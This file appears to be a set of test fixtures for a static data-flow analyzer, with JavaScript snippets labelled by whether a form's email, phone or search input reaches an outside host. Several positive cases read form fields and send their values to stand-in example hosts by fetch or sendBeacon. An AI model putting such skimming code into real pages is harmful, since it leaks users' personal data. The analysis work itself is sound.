//# stored-by-own-set-method
// flow: email > sos.me12.example via fetch
class Memory { set(k, v) { this[k] = v; } }
const memory = new Memory();
memory.set('mail', document.querySelector('input[type=email]').value);
memory.set('step', 2);
fetch('https://sos.me12.example/?m=' + memory.mail);

//# near-own-set-of-another-name
// no flow
class Memory { set(k, v) { this[k] = v; } }
const memory = new Memory();
memory.set('mail', document.querySelector('input[type=email]').value);
memory.set('step', 2);
fetch('https://nos.me12.example/?m=' + memory.step);

//# handler-by-its-place
// flow: phone > hbp.me12.example via fetch
function parts() {
  let tel = '';
  function typed() { tel = this.value; }
  const send = () => fetch('https://hbp.me12.example/', { method: 'POST', body: tel });
  return [send, typed];
}
const [send, typed] = parts();
const field = document.createElement('input');
field.type = 'tel';
field.addEventListener('input', typed);
document.querySelector('#go').onclick = send;

//# near-handler-of-another-place
// no flow
// why: the function that reads the field is never registered
function parts() {
  let tel = '', clicks = 0;
  function typed() { tel = this.value; clicks++; }
  function counted() { clicks++; }
  const send = () => fetch('https://nhp.me12.example/?c=' + clicks);
  return [send, typed, counted];
}
const [send, typed, counted] = parts();
const field = document.createElement('input');
field.type = 'tel';
field.addEventListener('input', counted);
document.querySelector('#go').onclick = send;

//# near-host-set-for-some
// flow: email > one.nhs.me12.example via fetch
// why: the other host is set in a function that is never called
const conf = { host: 'one.nhs.me12.example' };
fetch(`https://${conf.host}/m`, { method: 'POST', body: document.querySelector('input[type=email]').value });
function toTest() { conf.host = 'two.nhs.me12.example'; }

//# near-library-in-a-global-kept
// no flow
// why: the global is the library's, what it is given is kept
(function (root) {
  root.Notes = { list: [], send: function (v) { this.list.push(v); } };
  root.Pings = { send: function (v) { navigator.sendBeacon('https://lgk.me12.example/', v); } };
})(window);
Notes.send(document.querySelector('textarea[name=message]').value);
Pings.send('up');

//# near-template-handler-of-a-button
// no flow
import { LitElement, html } from 'lit';
class Box extends LitElement {
  render() { return html`<input type="tel" .value=${this.number}><button @click=${(e) => { this.hits = e.detail; }}>Call</button>`; }
  updated() { fetch('https://nth.me12.example/?h=' + this.hits); }
}
customElements.define('x-box', Box);

//# subject-between
// flow: search > sub.me12.example via fetch
import { Subject } from 'rxjs';
import { map, filter } from 'rxjs/operators';
const terms = new Subject(), pages = new Subject();
terms.pipe(filter((q) => q.length > 2), map((q) => ({ q }))).subscribe({ next(o) { fetch('https://sub.me12.example/', { method: 'POST', body: o.q }); } });
pages.subscribe((p) => fetch('https://sup.me12.example/?p=' + p));
document.querySelector('input[type=search]').oninput = (e) => { terms.next(e.target.value); pages.next(1); };

//# near-filtered-elements-other-type
// flow: phone > nfe.me12.example via beacon
// why: of the fields only those of one type are taken
const form = document.forms[0];
form.onsubmit = () => {
  const numbers = [...form.elements].filter((el) => el.type === 'tel').map((el) => el.value);
  navigator.sendBeacon('https://nfe.me12.example/m', numbers.join());
};
